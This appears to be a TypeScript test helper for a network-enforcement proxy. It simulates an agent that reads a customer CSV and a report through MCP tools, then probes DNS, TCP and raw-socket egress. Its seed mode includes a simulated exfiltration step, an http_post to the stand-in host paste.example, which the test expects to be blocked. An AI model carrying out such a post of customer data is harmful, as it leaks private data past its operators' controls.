// Runs as the managed agent inside a kernel-redirected cgroup (spawned by
// kernel-redirect.test.ts through lilith-probe's `cg … exec`). It talks to the
// REAL destinations; only the kernel sends it through the proxy. Prints one
// JSON line with what it saw.
import dgram from 'node:dgram';
import net from 'node:net';
import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { StreamableHTTPClientTransport } from '@modelcontextprotocol/sdk/client/streamableHttp.js';
import { buildQuery } from '../../enforcer/dataplane/dns/wire.js';

const [mode, ...args] = process.argv.slice(2);
const print = (v: unknown) => process.stdout.write(JSON.stringify(v) + '\n');

async function seed(filesUrl: string, reportsUrl: string): Promise<void> {
  const out: Record<string, unknown> = { pid: process.pid };
  const files = new Client({ name: 'kernel-agent', version: '1' });
  await files.connect(new StreamableHTTPClientTransport(new URL(filesUrl)));
  const reports = new Client({ name: 'kernel-agent', version: '1' });
  await reports.connect(new StreamableHTTPClientTransport(new URL(reportsUrl)));
  const text = (r: unknown) => (r as { content: Array<{ text: string }> }).content[0].text;
  out.read = text(await files.callTool({ name: 'read_file', arguments: { path: '/data/customers.csv' } }));
  out.report = text(await reports.callTool({ name: 'fetch_report', arguments: { report: 'q3' } }));
  try {
    await files.callTool({ name: 'http_post', arguments: { url: 'https://paste.example', body: 'x' } });
    out.post = 'allowed';
  } catch (err) {
    out.post = { code: (err as { code?: number }).code, message: (err as Error).message };
  }
  await files.close();
  await reports.close();
  print(out);
}

function dns(resolver: string, name: string, qtype = 1): Promise<void> {
  return new Promise((resolve) => {
    const s = dgram.createSocket('udp4');
    const t = setTimeout(() => {
      print({ pid: process.pid, error: 'timeout' });
      s.close();
      resolve();
    }, 8000);
    s.on('message', (m) => {
      clearTimeout(t);
      print({ pid: process.pid, rcode: m.readUInt16BE(2) & 0xf, answers: m.readUInt16BE(6) });
      s.close();
      resolve();
    });
    // RESOLVER is an IPv4 address (port 53) or ADDRESS:PORT.
    const [host, port] = resolver.includes(':') ? [resolver.split(':')[0], Number(resolver.split(':')[1])] : [resolver, 53];
    s.send(buildQuery(0x4242, name, qtype), port, host);
  });
}

function tcp(host: string, port: number): Promise<void> {
  return new Promise((resolve) => {
    const s = net.connect(port, host, () => s.end('opaque\x00bytes'));
    let data = '';
    s.on('data', (d) => (data += d.toString('latin1')));
    s.on('error', (e: NodeJS.ErrnoException) => {
      print({ pid: process.pid, error: e.code });
      resolve();
    });
    s.on('close', () => {
      print({ pid: process.pid, data });
      resolve();
    });
  });
}

/** Sends raw bytes (base64) and prints what came back, and whether the peer closed or reset, within `ms`. */
function raw(host: string, port: number, b64: string, ms: number): Promise<void> {
  return new Promise((resolve) => {
    const s = net.connect({ port, host, allowHalfOpen: true }, () => s.write(Buffer.from(b64, 'base64')));
    let data = '';
    let reset = false;
    let finished = false;
    const done = (closed: boolean) => {
      if (finished) return;
      finished = true;
      clearTimeout(t);
      s.destroy();
      print({ pid: process.pid, data, closed, reset });
      resolve();
    };
    const t = setTimeout(() => done(false), ms);
    s.on('data', (d) => (data += d.toString('latin1')));
    s.on('error', (e: NodeJS.ErrnoException) => (reset ||= e.code === 'ECONNRESET'));
    s.on('end', () => done(true));
    s.on('close', () => done(true));
  });
}

if (mode === 'seed') await seed(args[0], args[1]);
else if (mode === 'dns') await dns(args[0], args[1], args[2] ? Number(args[2]) : 1);
else if (mode === 'raw') await raw(args[0], Number(args[1]), args[2], Number(args[3] ?? 3000));
else if (mode === 'tcp') await tcp(args[0], Number(args[1]));
else {
  process.stderr.write(`usage: kernel-agent seed URL URL | dns RESOLVER NAME [QTYPE] | tcp HOST PORT | raw HOST PORT BASE64 [MS]\n`);
  process.exit(2);
}
